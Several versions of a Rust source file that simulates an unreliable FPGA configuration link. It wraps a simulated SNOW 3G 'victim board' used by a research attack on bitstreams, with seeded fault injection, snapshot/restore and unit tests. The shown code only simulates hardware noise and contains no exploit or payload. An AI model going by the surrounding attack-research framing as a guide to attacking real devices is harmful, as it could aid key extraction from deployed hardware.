    pub fn apply_plan(
        &self,
        plan: &ReadPlan,
        bitstream: &Bitstream,
    ) -> Result<Vec<u32>, BoardError> {
        match &plan.outcome {
            ReadOutcome::TransientLoad => Err(BoardError::Program(ProgramError::TransientLoad)),
            ReadOutcome::Timeout { ms } => {
                Err(BoardError::Program(ProgramError::ConfigTimeout { ms: *ms }))
            }
            ReadOutcome::Dead => Err(BoardError::Program(ProgramError::BoardDead)),
            ReadOutcome::Read { keep, glitch, .. } => {
                let z = self.inner.generate_keystream(bitstream, *keep)?;
                Ok(self.corrupt(z, glitch))
            }
        }
    }

    /// Applies a plan's glitch masks and the profile's stuck bits to
    /// clean device words.
    #[must_use]
    pub fn corrupt(&self, mut z: Vec<u32>, glitch: &[u32]) -> Vec<u32> {
        for (w, mask) in z.iter_mut().zip(glitch) {
            *w ^= mask;
        }
        if self.profile.stuck_mask != 0 {
            for w in &mut z {
                *w &= !self.profile.stuck_mask;
            }
        }
        z
    }

    /// Loads `bitstream` and collects up to `words` keystream words,
    /// with faults injected: the load can transiently fail or time
    /// out (or be rejected outright once the board dies), the read
    /// can come back short, each returned bit can be flipped, and
    /// stuck bits always read 0.
    ///
    /// # Errors
    ///
    /// [`ProgramError::TransientLoad`] / [`ProgramError::ConfigTimeout`]
    /// / [`ProgramError::BoardDead`] (wrapped in
    /// [`BoardError::Program`]) for injected faults, plus everything
    /// the ideal board can return.
    ///
    /// # Panics
    ///
    /// Panics if a previous caller panicked while holding the
    /// internal lock.
    pub fn generate_keystream(
        &self,
        bitstream: &Bitstream,
        words: usize,
    ) -> Result<Vec<u32>, BoardError> {
        let plan = self.commit_next_plan(words);
        self.apply_plan(&plan, bitstream)
    }

    /// Partial-reconfiguration oracle with the identical fault model:
    /// a partial load is one physical load, so it draws the exact plan
    /// the full load at the same load index would have drawn — the
    /// fault trace of a run is unchanged by switching load modes.
    ///
    /// # Errors
    ///
    /// Injected faults as [`Self::generate_keystream`], plus
    /// everything [`Snow3gBoard::generate_keystream_partial`] can
    /// return.
    ///
    /// # Panics
    ///
    /// Panics if a previous caller panicked while holding the
    /// internal lock.
    pub fn generate_keystream_partial(
        &self,
        partial: &bitstream::partial::PartialBitstream,
        words: usize,
    ) -> Result<Vec<u32>, BoardError> {
        let plan = self.commit_next_plan(words);
        match &plan.outcome {
            ReadOutcome::TransientLoad => Err(BoardError::Program(ProgramError::TransientLoad)),
            ReadOutcome::Timeout { ms } => {
                Err(BoardError::Program(ProgramError::ConfigTimeout { ms: *ms }))
            }
            ReadOutcome::Dead => Err(BoardError::Program(ProgramError::BoardDead)),
            ReadOutcome::Read { keep, glitch, .. } => {
                let z = self.inner.generate_keystream_partial(partial, *keep)?;
                Ok(self.corrupt(z, glitch))
            }
        }
    }

    /// Plans the next read and commits it atomically under the stats
    /// lock.
    fn commit_next_plan(&self, words: usize) -> ReadPlan {
        let mut stats = self.stats.lock().expect("fault stats lock");
        let plan = self.plan_at(stats.loads_attempted, words);
        stats.loads_attempted += 1;
        match &plan.outcome {
            ReadOutcome::TransientLoad => stats.transient_failures += 1,
            ReadOutcome::Timeout { .. } => stats.timeouts += 1,
            ReadOutcome::Dead => {}
            ReadOutcome::Read { truncated, glitch, .. } => {
                if *truncated {
                    stats.truncated_reads += 1;
                }
                stats.bits_flipped += glitch.iter().map(|m| u64::from(m.count_ones())).sum::<u64>();
            }
        }
        plan
    }
}

/// One Bernoulli draw with probability `p` (53-bit uniform mantissa).
fn bernoulli(rng: &mut rand::rngs::SmallRng, p: f64) -> bool {
    if p <= 0.0 {
        return false;
    }
    if p >= 1.0 {
        return true;
    }
    const SCALE: f64 = 1.0 / (1u64 << 53) as f64;
    ((rng.next_u64() >> 11) as f64) * SCALE < p
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::implementer::ImplementOptions;
    use netlist::snow3g_circuit::Snow3gCircuitConfig;
    use snow3g::vectors::{TEST_SET_1_IV, TEST_SET_1_KEY};

    fn board(profile: FaultProfile) -> UnreliableBoard {
        let config = Snow3gCircuitConfig::unprotected(TEST_SET_1_KEY, TEST_SET_1_IV);
        let inner = Snow3gBoard::build(config, &ImplementOptions::default()).expect("board builds");
        UnreliableBoard::new(inner, profile)
    }

    #[test]
    fn clean_profile_is_transparent() {
        let b = board(FaultProfile::clean(1));
        let golden = b.extract_bitstream();
        let z = b.generate_keystream(&golden, 4).expect("clean board runs");
        let reference = b.inner().generate_keystream(&golden, 4).expect("ideal board runs");
        assert_eq!(z, reference);
        assert_eq!(b.fault_stats().bits_flipped, 0);
        assert_eq!(b.fault_stats().transient_failures, 0);
    }

    #[test]
    fn same_seed_same_fault_trace() {
        let run = |seed: u64| -> (Vec<Result<Vec<u32>, String>>, FaultStats) {
            let b = board(FaultProfile::bursty(seed).with_drift(0.001));
            let golden = b.extract_bitstream();
            let outs = (0..12)
                .map(|_| b.generate_keystream(&golden, 4).map_err(|e| e.to_string()))
                .collect();
            (outs, b.fault_stats())
        };
        let (a, sa) = run(7);
        let (b, sb) = run(7);
        let (c, sc) = run(8);
        assert_eq!(a, b, "identical seeds replay the identical trace");
        assert_eq!(sa, sb);
        assert!(a != c || sa != sc, "a different seed perturbs the trace");
    }

    #[test]
    fn faults_are_injected_at_the_configured_rates() {
        let b = board(FaultProfile::clean(42).with_load_failure(0.5));
        let golden = b.extract_bitstream();
        let failures = (0..40)
            .filter(|_| {
                matches!(
                    b.generate_keystream(&golden, 1),
                    Err(BoardError::Program(ProgramError::TransientLoad))
                )
            })
            .count();
        assert!((10..=30).contains(&failures), "≈ 50% failures, got {failures}/40");
        let stats = b.fault_stats();
        assert_eq!(stats.transient_failures as usize, failures);
        assert_eq!(stats.loads_attempted, 40);
    }

    #[test]
    fn glitches_flip_bits_and_truncation_shortens_reads() {
        let b = board(FaultProfile::clean(3).with_bit_glitch(0.05).with_truncate(0.5));
        let golden = b.extract_bitstream();
        let mut short = 0usize;
        for _ in 0..10 {
            let z = b.generate_keystream(&golden, 4).expect("no load faults configured");
            if z.len() < 4 {
                short += 1;
            }
        }
        let stats = b.fault_stats();
        assert_eq!(stats.truncated_reads as usize, short);
        assert!(short > 0, "truncation at 50% must occur in 10 reads");
        assert!(stats.bits_flipped > 0, "5% glitch rate must flip bits");
    }

    #[test]
    fn burst_chain_raises_the_glitch_rate_in_bad_state() {
        // A chain pinned in the bad state (enter 100%, never exits)
        // glitches at burst_glitch, not bit_glitch.
        let stormy = board(FaultProfile::clean(5).with_burst(1.0, 0.0, 0.5));
        let calm = board(FaultProfile::clean(5));
        let golden = stormy.extract_bitstream();
        for _ in 0..6 {
            let _ = stormy.generate_keystream(&golden, 4);
            let _ = calm.generate_keystream(&golden, 4);
        }
        assert!(stormy.fault_stats().bits_flipped > 50, "bad state glitches heavily");
        assert_eq!(calm.fault_stats().bits_flipped, 0, "good-state rate still applies");
        // The chain itself is deterministic in the seed.
        let again = board(FaultProfile::clean(5).with_burst(1.0, 0.0, 0.5));
        for _ in 0..6 {
            let _ = again.generate_keystream(&golden, 4);
        }
        assert_eq!(again.fault_stats(), stormy.fault_stats());
    }

    #[test]
    fn drift_degrades_the_board_over_loads() {
        // 1% base load-failure rate drifting 10× per 100 loads: the
        // second hundred loads must fail noticeably more often than
        // the first.
        let b = board(FaultProfile::clean(11).with_load_failure(0.01).with_drift(0.1));
        let golden = b.extract_bitstream();
        let fails = |n: usize| (0..n).filter(|_| b.generate_keystream(&golden, 1).is_err()).count();
        let early = fails(100);
        let late = fails(100);
        assert!(late > early, "drift must raise the failure rate ({early} → {late})");
    }

    #[test]
    fn stuck_bits_always_read_zero() {
        let mask = 0x8000_0001;
        let b = board(FaultProfile::clean(2).with_stuck_mask(mask));
        let golden = b.extract_bitstream();
        let z = b.generate_keystream(&golden, 8).expect("clean otherwise");
        assert!(z.iter().all(|w| w & mask == 0), "stuck bits never read 1");
        let reference = b.inner().generate_keystream(&golden, 8).expect("ideal");
        assert!(reference.iter().any(|w| w & mask != 0), "the true keystream uses those bits");
    }

    #[test]
    fn a_dying_board_rejects_every_load_past_its_death_point() {
        let b = board(FaultProfile::clean(1).with_dies_at(3));
        let golden = b.extract_bitstream();
        assert!(!b.is_dead());
        for _ in 0..3 {
            b.generate_keystream(&golden, 2).expect("alive before the death point");
        }
        assert!(b.is_dead(), "death point reached");
        for _ in 0..2 {
            let err = b.generate_keystream(&golden, 2).expect_err("dead board rejects");
            assert!(matches!(err, BoardError::Program(ProgramError::BoardDead)));
        }
        assert!(!ProgramError::BoardDead.is_transient(), "death is not retryable");
        assert_eq!(b.fault_stats().loads_attempted, 5, "dead attempts are still counted");
    }

    #[test]
    fn plans_are_pure_and_commit_matches_serial_execution() {
        // Planning N reads ahead, then committing them, leaves the
        // board in the identical state a serial run reaches — and the
        // planned outcomes equal what the serial run observed.
        let planner = board(FaultProfile::bursty(13));
        let serial = board(FaultProfile::bursty(13));
        let golden = planner.extract_bitstream();
        let plans: Vec<ReadPlan> = (0..10).map(|i| planner.plan_read(i, 4)).collect();
        let replanned: Vec<ReadPlan> = (0..10).rev().map(|i| planner.plan_read(i, 4)).collect();
        assert_eq!(
            plans,
            replanned.into_iter().rev().collect::<Vec<_>>(),
            "plans are pure: evaluation order does not matter"
        );
        assert_eq!(planner.fault_stats(), FaultStats::default(), "planning commits nothing");

        let serial_out: Vec<_> = (0..10)
            .map(|_| serial.generate_keystream(&golden, 4).map_err(|e| e.to_string()))
            .collect();
        let planned_out: Vec<_> = plans
            .iter()
            .map(|p| planner.apply_plan(p, &golden).map_err(|e| e.to_string()))
            .collect();
        planner.commit_plans(&plans);
        assert_eq!(planned_out, serial_out, "planned data path equals serial execution");
        assert_eq!(planner.fault_stats(), serial.fault_stats(), "committed stats line up");
    }

    #[test]
    fn snapshot_restore_resumes_the_exact_fault_trace() {
        // Reference: one uninterrupted run of 20 reads.
        let reference = board(FaultProfile::bursty(9));
        let golden = reference.extract_bitstream();
        let full: Vec<_> = (0..20)
            .map(|_| reference.generate_keystream(&golden, 4).map_err(|e| e.to_string()))
            .collect();

        // Interrupted run: 8 reads, snapshot, "crash", restore onto a
        // fresh board, 12 more reads.
        let first = board(FaultProfile::bursty(9));
        for _ in 0..8 {
            let _ = first.generate_keystream(&golden, 4);
        }
        let snap = first.snapshot();
        drop(first);
        let resumed = board(FaultProfile::bursty(9));
        resumed.restore(&snap).expect("matching profile restores");
        let tail: Vec<_> = (0..12)
            .map(|_| resumed.generate_keystream(&golden, 4).map_err(|e| e.to_string()))
            .collect();
        assert_eq!(tail, full[8..], "restored board continues the identical trace");
        assert_eq!(resumed.fault_stats(), reference.fault_stats(), "counters line up too");
    }

    #[test]
    fn a_session_migrates_from_a_dying_board_to_a_healthy_one() {
        // The headline fleet property at board scale: a snapshot taken
        // on a board with local pathology (dies_at) restores onto an
        // ambient-equal healthy board and continues the ambient trace.
        let reference = board(FaultProfile::flaky(21));
        let golden = reference.extract_bitstream();
        let full: Vec<_> = (0..16)
            .map(|_| reference.generate_keystream(&golden, 4).map_err(|e| e.to_string()))
            .collect();

        let dying = board(FaultProfile::flaky(21).with_dies_at(6));
        for _ in 0..6 {
            let _ = dying.generate_keystream(&golden, 4);
        }
        assert!(dying.is_dead());
        let snap = dying.snapshot();
        let healthy = board(FaultProfile::flaky(21));
        healthy.restore(&snap).expect("ambient profiles match despite dies_at");
        // The healthy board replays the dead attempts' load indices
        // too (the resilient layer re-issues the failed query).
        let resumed_stats = healthy.fault_stats();
        assert_eq!(resumed_stats.loads_attempted, 6);
        let tail: Vec<_> = (0..10)
            .map(|_| healthy.generate_keystream(&golden, 4).map_err(|e| e.to_string()))
            .collect();
        assert_eq!(tail, full[6..], "migrated session continues the ambient trace");
    }

    #[test]
    fn the_death_fuse_counts_local_wear_not_inherited_session_position() {
        // A fleet of boards that all share the same fuse must be able
        // to hand a session down the line: each successor inherits the
        // session's load position via restore() but starts its own
        // wear counter at zero, so the predecessor's mileage cannot
        // kill it on arrival.
        let golden;
        let snap = {
            let first = board(FaultProfile::flaky(21).with_dies_at(6));
            golden = first.extract_bitstream();
            for _ in 0..6 {
                let _ = first.generate_keystream(&golden, 4);
            }
            assert!(first.is_dead());
            first.snapshot()
        };
        let successor = board(FaultProfile::flaky(21).with_dies_at(6));
        successor.restore(&snap).expect("ambient profiles match");
        assert!(!successor.is_dead(), "inherited mileage does not burn the successor's fuse");
        // Its local accounting starts at zero even though the session
        // position carries on from load 6.
        assert_eq!(successor.local_stats(), FaultStats::default());
        assert_eq!(successor.fault_stats().loads_attempted, 6);
        for i in 0..6 {
            let result = successor.generate_keystream(&golden, 4);
            assert!(
                !matches!(&result, Err(BoardError::Program(ProgramError::BoardDead))),
                "local load {i} is within the fuse"
            );
        }
        assert!(successor.is_dead(), "six local loads burn the successor's own fuse");
        let err = successor.generate_keystream(&golden, 4).expect_err("dead");
        assert!(matches!(err, BoardError::Program(ProgramError::BoardDead)));
        assert_eq!(successor.local_stats().loads_attempted, 7, "dead attempts count as wear");
        assert_eq!(successor.fault_stats().loads_attempted, 13, "session position kept going");
    }

    #[test]
    fn snapshot_bytes_roundtrip_and_reject_garbage() {
        let b = board(FaultProfile::bursty(3).with_bit_glitch(0.25).with_dies_at(1_000));
        let golden = b.extract_bitstream();
        let _ = b.generate_keystream(&golden, 2);
        let snap = b.snapshot();
        let bytes = snap.to_bytes();
        assert_eq!(bytes.len(), FaultSnapshot::BYTES);
        assert_eq!(FaultSnapshot::from_bytes(&bytes), Some(snap));
        assert_eq!(FaultSnapshot::from_bytes(&bytes[..40]), None, "short record rejected");
        let mut bad = bytes.clone();
        bad[16] = 0x7F; // load_failure's exponent explodes out of [0, 1]
        assert_eq!(FaultSnapshot::from_bytes(&bad), None, "invalid probability rejected");
        let mut wrong_version = bytes.clone();
        wrong_version[0] = 1;
        assert_eq!(FaultSnapshot::from_bytes(&wrong_version), None, "old format rejected");
    }

    #[test]
    fn restore_refuses_a_mismatched_ambient_profile() {
        let a = board(FaultProfile::flaky(1));
        let b = board(FaultProfile::flaky(1).with_bit_glitch(0.5));
        let snap = a.snapshot();
        let err = b.restore(&snap).expect_err("ambient profile differs");
        assert!(err.to_string().contains("mismatch"));
        assert!(matches!(err, RestoreError::ProfileMismatch { .. }));
        // Pathology-only differences are explicitly tolerated.
        let c = board(FaultProfile::flaky(1).with_dies_at(5));
        c.restore(&snap).expect("dies_at alone is not a mismatch");
    }

    #[test]
    fn transient_errors_expose_their_nature() {
        assert!(ProgramError::TransientLoad.is_transient());
        assert!(ProgramError::ConfigTimeout { ms: 250 }.is_transient());
        assert!(!ProgramError::WrongFrameCount { got: 1, expected: 2 }.is_transient());
        assert!(!ProgramError::BoardDead.is_transient());
    }
}
