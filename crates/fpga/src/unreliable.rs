//! A flaky victim board: the [`Snow3gBoard`] behind an unreliable
//! configuration link.
//!
//! The paper's experiments ran against a real Artix-7 over a
//! configuration port. On real hardware, loads transiently fail
//! (`INIT_B` pulses low on a perfectly valid stream), the port can
//! stop responding, and keystream readback can glitch individual
//! bits or cut a transfer short. [`UnreliableBoard`] injects exactly
//! those fault classes — governed by a seeded [`FaultProfile`], so
//! every run is reproducible — behind the same *load bitstream / read
//! keystream* interface the ideal board exposes. The resilience layer
//! in the attack crate (`bitmod::resilient`) is evaluated against it.

use std::sync::Mutex;

use rand::rngs::SmallRng;
use rand::{Rng, RngCore, SeedableRng};

use bitstream::Bitstream;

use crate::board::{BoardError, Snow3gBoard};
use crate::fabric::{Fpga, ProgramError};

/// The seeded fault model of an unreliable board. All probabilities
/// are per-event in `[0, 1]`; the draw sequence is fixed (load
/// failure, timeout, truncation, then one draw per keystream bit), so
/// a given seed reproduces the same fault trace for the same call
/// sequence.
#[derive(Debug, Clone, Copy)]
pub struct FaultProfile {
    /// RNG seed; the whole fault trace is a function of it.
    pub seed: u64,
    /// Probability a load aborts with [`ProgramError::TransientLoad`].
    pub load_failure: f64,
    /// Probability a load aborts with [`ProgramError::ConfigTimeout`].
    pub timeout: f64,
    /// Per-bit probability that a keystream bit reads back flipped.
    pub bit_glitch: f64,
    /// Probability a keystream read returns fewer words than asked.
    pub truncate: f64,
}

impl FaultProfile {
    /// A fault-free profile (the wrapper becomes a transparent proxy).
    #[must_use]
    pub fn clean(seed: u64) -> Self {
        Self { seed, load_failure: 0.0, timeout: 0.0, bit_glitch: 0.0, truncate: 0.0 }
    }

    /// The "flaky lab board" preset the noise experiments use: 10%
    /// transient load failures, 2% timeouts, 1% keystream bit
    /// glitches, 2% truncated reads.
    #[must_use]
    pub fn flaky(seed: u64) -> Self {
        Self { seed, load_failure: 0.10, timeout: 0.02, bit_glitch: 0.01, truncate: 0.02 }
    }

    /// Overrides the transient-load-failure probability.
    #[must_use]
    pub fn with_load_failure(mut self, p: f64) -> Self {
        self.load_failure = p;
        self
    }

    /// Overrides the timeout probability.
    #[must_use]
    pub fn with_timeout(mut self, p: f64) -> Self {
        self.timeout = p;
        self
    }

    /// Overrides the per-bit keystream glitch probability.
    #[must_use]
    pub fn with_bit_glitch(mut self, p: f64) -> Self {
        self.bit_glitch = p;
        self
    }

    /// Overrides the truncated-read probability.
    #[must_use]
    pub fn with_truncate(mut self, p: f64) -> Self {
        self.truncate = p;
        self
    }
}

/// Counters of the faults actually injected so far.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct FaultStats {
    /// Keystream requests received (including failed ones).
    pub loads_attempted: u64,
    /// Loads aborted with a transient failure.
    pub transient_failures: u64,
    /// Loads aborted with a simulated timeout.
    pub timeouts: u64,
    /// Keystream reads that returned fewer words than requested.
    pub truncated_reads: u64,
    /// Keystream bits flipped by glitch injection.
    pub bits_flipped: u64,
}

#[derive(Debug)]
struct FaultState {
    rng: SmallRng,
    stats: FaultStats,
}

/// The [`Snow3gBoard`] behind an unreliable configuration link.
///
/// Exposes the board interface the attack drives (extract the golden
/// bitstream, load a bitstream and read keystream words) with faults
/// injected per the profile. Interior mutability keeps the interface
/// `&self` like the ideal board's; the RNG advances deterministically
/// with each call.
#[derive(Debug)]
pub struct UnreliableBoard {
    inner: Snow3gBoard,
    profile: FaultProfile,
    state: Mutex<FaultState>,
}

impl UnreliableBoard {
    /// Wraps a board in the fault model.
    #[must_use]
    pub fn new(inner: Snow3gBoard, profile: FaultProfile) -> Self {
        let rng = SmallRng::seed_from_u64(profile.seed);
        Self { inner, profile, state: Mutex::new(FaultState { rng, stats: FaultStats::default() }) }
    }

    /// The ideal board underneath (ground truth for tests).
    #[must_use]
    pub fn inner(&self) -> &Snow3gBoard {
        &self.inner
    }

    /// The active fault profile.
    #[must_use]
    pub fn profile(&self) -> &FaultProfile {
        &self.profile
    }

    /// Faults injected so far.
    ///
    /// # Panics
    ///
    /// Panics if a previous caller panicked while holding the
    /// internal lock.
    #[must_use]
    pub fn fault_stats(&self) -> FaultStats {
        self.state.lock().expect("fault state lock").stats
    }

    /// Extracting the bitstream from external flash does not use the
    /// configuration port; it is reliable.
    #[must_use]
    pub fn extract_bitstream(&self) -> Bitstream {
        self.inner.extract_bitstream()
    }

    /// The device model (public knowledge, same as the ideal board).
    #[must_use]
    pub fn fpga(&self) -> &Fpga {
        self.inner.fpga()
    }

    /// Loads `bitstream` and collects up to `words` keystream words,
    /// with faults injected: the load can transiently fail or time
    /// out, the read can come back short, and each returned bit can be
    /// flipped.
    ///
    /// # Errors
    ///
    /// [`ProgramError::TransientLoad`] / [`ProgramError::ConfigTimeout`]
    /// (wrapped in [`BoardError::Program`]) for injected faults, plus
    /// everything the ideal board can return.
    ///
    /// # Panics
    ///
    /// Panics if a previous caller panicked while holding the
    /// internal lock.
    pub fn generate_keystream(
        &self,
        bitstream: &Bitstream,
        words: usize,
    ) -> Result<Vec<u32>, BoardError> {
        let mut state = self.state.lock().expect("fault state lock");
        state.stats.loads_attempted += 1;
        // Fixed draw order: load glitch, timeout, truncation point,
        // then one draw per returned bit. Determinism in the seed and
        // the call sequence is what makes noisy runs reproducible.
        if bernoulli(&mut state.rng, self.profile.load_failure) {
            state.stats.transient_failures += 1;
            return Err(BoardError::Program(ProgramError::TransientLoad));
        }
        if bernoulli(&mut state.rng, self.profile.timeout) {
            state.stats.timeouts += 1;
            let ms = 100 + state.rng.gen_range(0u64..900);
            return Err(BoardError::Program(ProgramError::ConfigTimeout { ms }));
        }
        let keep = if words > 0 && bernoulli(&mut state.rng, self.profile.truncate) {
            state.stats.truncated_reads += 1;
            state.rng.gen_range(0..words)
        } else {
            words
        };
        // The (fault-free) device does the actual work; readback
        // glitches are applied to what it produced.
        let mut z = self.inner.generate_keystream(bitstream, keep)?;
        if self.profile.bit_glitch > 0.0 {
            for w in &mut z {
                for bit in 0..32 {
                    if bernoulli(&mut state.rng, self.profile.bit_glitch) {
                        *w ^= 1 << bit;
                        state.stats.bits_flipped += 1;
                    }
                }
            }
        }
        Ok(z)
    }
}

/// One Bernoulli draw with probability `p` (53-bit uniform mantissa).
fn bernoulli(rng: &mut SmallRng, p: f64) -> bool {
    if p <= 0.0 {
        return false;
    }
    if p >= 1.0 {
        return true;
    }
    const SCALE: f64 = 1.0 / (1u64 << 53) as f64;
    ((rng.next_u64() >> 11) as f64) * SCALE < p
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::implementer::ImplementOptions;
    use netlist::snow3g_circuit::Snow3gCircuitConfig;
    use snow3g::vectors::{TEST_SET_1_IV, TEST_SET_1_KEY};

    fn board(profile: FaultProfile) -> UnreliableBoard {
        let config = Snow3gCircuitConfig::unprotected(TEST_SET_1_KEY, TEST_SET_1_IV);
        let inner = Snow3gBoard::build(config, &ImplementOptions::default()).expect("board builds");
        UnreliableBoard::new(inner, profile)
    }

    #[test]
    fn clean_profile_is_transparent() {
        let b = board(FaultProfile::clean(1));
        let golden = b.extract_bitstream();
        let z = b.generate_keystream(&golden, 4).expect("clean board runs");
        let reference = b.inner().generate_keystream(&golden, 4).expect("ideal board runs");
        assert_eq!(z, reference);
        assert_eq!(b.fault_stats().bits_flipped, 0);
        assert_eq!(b.fault_stats().transient_failures, 0);
    }

    #[test]
    fn same_seed_same_fault_trace() {
        let run = |seed: u64| -> (Vec<Result<Vec<u32>, String>>, FaultStats) {
            let b = board(FaultProfile::flaky(seed));
            let golden = b.extract_bitstream();
            let outs = (0..12)
                .map(|_| b.generate_keystream(&golden, 4).map_err(|e| e.to_string()))
                .collect();
            (outs, b.fault_stats())
        };
        let (a, sa) = run(7);
        let (b, sb) = run(7);
        let (c, sc) = run(8);
        assert_eq!(a, b, "identical seeds replay the identical trace");
        assert_eq!(sa, sb);
        assert!(a != c || sa != sc, "a different seed perturbs the trace");
    }

    #[test]
    fn faults_are_injected_at_the_configured_rates() {
        let b = board(FaultProfile::clean(42).with_load_failure(0.5));
        let golden = b.extract_bitstream();
        let failures = (0..40)
            .filter(|_| {
                matches!(
                    b.generate_keystream(&golden, 1),
                    Err(BoardError::Program(ProgramError::TransientLoad))
                )
            })
            .count();
        assert!((10..=30).contains(&failures), "≈ 50% failures, got {failures}/40");
        let stats = b.fault_stats();
        assert_eq!(stats.transient_failures as usize, failures);
        assert_eq!(stats.loads_attempted, 40);
    }

    #[test]
    fn glitches_flip_bits_and_truncation_shortens_reads() {
        let b = board(FaultProfile::clean(3).with_bit_glitch(0.05).with_truncate(0.5));
        let golden = b.extract_bitstream();
        let mut short = 0usize;
        for _ in 0..10 {
            let z = b.generate_keystream(&golden, 4).expect("no load faults configured");
            if z.len() < 4 {
                short += 1;
            }
        }
        let stats = b.fault_stats();
        assert_eq!(stats.truncated_reads as usize, short);
        assert!(short > 0, "truncation at 50% must occur in 10 reads");
        assert!(stats.bits_flipped > 0, "5% glitch rate must flip bits");
    }

    #[test]
    fn transient_errors_expose_their_nature() {
        assert!(ProgramError::TransientLoad.is_transient());
        assert!(ProgramError::ConfigTimeout { ms: 250 }.is_transient());
        assert!(!ProgramError::WrongFrameCount { got: 1, expected: 2 }.is_transient());
    }
}
