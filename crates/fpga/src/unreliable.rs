//! A flaky victim board: the [`Snow3gBoard`] behind an unreliable
//! configuration link.
//!
//! The paper's experiments ran against a real Artix-7 over a
//! configuration port. On real hardware, loads transiently fail
//! (`INIT_B` pulses low on a perfectly valid stream), the port can
//! stop responding, and keystream readback can glitch individual
//! bits or cut a transfer short. [`UnreliableBoard`] injects exactly
//! those fault classes — governed by a seeded [`FaultProfile`], so
//! every run is reproducible — behind the same *load bitstream / read
//! keystream* interface the ideal board exposes. The resilience layer
//! in the attack crate (`bitmod::resilient`) is evaluated against it.

use std::sync::Mutex;

use rand::rngs::SmallRng;
use rand::{Rng, RngCore, SeedableRng};

use bitstream::Bitstream;

use crate::board::{BoardError, Snow3gBoard};
use crate::fabric::{Fpga, ProgramError};

/// The seeded fault model of an unreliable board. All probabilities
/// are per-event in `[0, 1]`; the draw sequence is fixed (load
/// failure, timeout, truncation, then one draw per keystream bit), so
/// a given seed reproduces the same fault trace for the same call
/// sequence.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct FaultProfile {
    /// RNG seed; the whole fault trace is a function of it.
    pub seed: u64,
    /// Probability a load aborts with [`ProgramError::TransientLoad`].
    pub load_failure: f64,
    /// Probability a load aborts with [`ProgramError::ConfigTimeout`].
    pub timeout: f64,
    /// Per-bit probability that a keystream bit reads back flipped.
    pub bit_glitch: f64,
    /// Probability a keystream read returns fewer words than asked.
    pub truncate: f64,
}

impl FaultProfile {
    /// A fault-free profile (the wrapper becomes a transparent proxy).
    #[must_use]
    pub fn clean(seed: u64) -> Self {
        Self { seed, load_failure: 0.0, timeout: 0.0, bit_glitch: 0.0, truncate: 0.0 }
    }

    /// The "flaky lab board" preset the noise experiments use: 10%
    /// transient load failures, 2% timeouts, 1% keystream bit
    /// glitches, 2% truncated reads.
    #[must_use]
    pub fn flaky(seed: u64) -> Self {
        Self { seed, load_failure: 0.10, timeout: 0.02, bit_glitch: 0.01, truncate: 0.02 }
    }

    /// Overrides the transient-load-failure probability.
    #[must_use]
    pub fn with_load_failure(mut self, p: f64) -> Self {
        self.load_failure = p;
        self
    }

    /// Overrides the timeout probability.
    #[must_use]
    pub fn with_timeout(mut self, p: f64) -> Self {
        self.timeout = p;
        self
    }

    /// Overrides the per-bit keystream glitch probability.
    #[must_use]
    pub fn with_bit_glitch(mut self, p: f64) -> Self {
        self.bit_glitch = p;
        self
    }

    /// Overrides the truncated-read probability.
    #[must_use]
    pub fn with_truncate(mut self, p: f64) -> Self {
        self.truncate = p;
        self
    }
}

/// Counters of the faults actually injected so far.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct FaultStats {
    /// Keystream requests received (including failed ones).
    pub loads_attempted: u64,
    /// Loads aborted with a transient failure.
    pub transient_failures: u64,
    /// Loads aborted with a simulated timeout.
    pub timeouts: u64,
    /// Keystream reads that returned fewer words than requested.
    pub truncated_reads: u64,
    /// Keystream bits flipped by glitch injection.
    pub bits_flipped: u64,
}

impl FaultStats {
    /// Total faults injected across all classes — the board-side
    /// number a telemetry trace sets against the retries the attack
    /// *observed* (glitched bits that majority voting silently
    /// outvotes never surface as retries).
    #[must_use]
    pub fn injected(&self) -> u64 {
        self.transient_failures + self.timeouts + self.truncated_reads + self.bits_flipped
    }
}

/// A portable snapshot of an [`UnreliableBoard`]'s mutable state:
/// the fault profile it was configured with, the fault counters, and
/// the exact RNG position. Restoring it resumes the *identical* fault
/// trace — the property crash-safe attack journals rely on: a run
/// killed after N loads and resumed from a snapshot injects exactly
/// the faults loads N+1, N+2, ... of an uninterrupted run would see.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct FaultSnapshot {
    /// The profile in force when the snapshot was taken.
    pub profile: FaultProfile,
    /// Fault counters at the snapshot point.
    pub stats: FaultStats,
    /// The raw RNG state ([`SmallRng::state_bytes`]).
    pub rng_state: [u8; 16],
}

impl FaultSnapshot {
    /// Serialized size of [`FaultSnapshot::to_bytes`].
    pub const BYTES: usize = 96;

    /// Encodes the snapshot as a fixed-width little-endian record
    /// (the opaque oracle-state section of an attack journal).
    #[must_use]
    pub fn to_bytes(&self) -> Vec<u8> {
        let mut out = Vec::with_capacity(Self::BYTES);
        out.extend_from_slice(&self.profile.seed.to_le_bytes());
        for p in [
            self.profile.load_failure,
            self.profile.timeout,
            self.profile.bit_glitch,
            self.profile.truncate,
        ] {
            out.extend_from_slice(&p.to_bits().to_le_bytes());
        }
        for c in [
            self.stats.loads_attempted,
            self.stats.transient_failures,
            self.stats.timeouts,
            self.stats.truncated_reads,
            self.stats.bits_flipped,
        ] {
            out.extend_from_slice(&c.to_le_bytes());
        }
        out.extend_from_slice(&self.rng_state);
        debug_assert_eq!(out.len(), Self::BYTES);
        out
    }

    /// Decodes a [`FaultSnapshot::to_bytes`] record; `None` if the
    /// length is wrong or a probability field is not a valid
    /// probability (corruption that slipped past outer CRC guards).
    #[must_use]
    pub fn from_bytes(bytes: &[u8]) -> Option<Self> {
        if bytes.len() != Self::BYTES {
            return None;
        }
        let u64_at = |i: usize| {
            let mut b = [0u8; 8];
            b.copy_from_slice(&bytes[i..i + 8]);
            u64::from_le_bytes(b)
        };
        let prob_at = |i: usize| {
            let p = f64::from_bits(u64_at(i));
            ((0.0..=1.0).contains(&p)).then_some(p)
        };
        let mut rng_state = [0u8; 16];
        rng_state.copy_from_slice(&bytes[80..96]);
        Some(Self {
            profile: FaultProfile {
                seed: u64_at(0),
                load_failure: prob_at(8)?,
                timeout: prob_at(16)?,
                bit_glitch: prob_at(24)?,
                truncate: prob_at(32)?,
            },
            stats: FaultStats {
                loads_attempted: u64_at(40),
                transient_failures: u64_at(48),
                timeouts: u64_at(56),
                truncated_reads: u64_at(64),
                bits_flipped: u64_at(72),
            },
            rng_state,
        })
    }
}

/// An error restoring a [`FaultSnapshot`] onto a board.
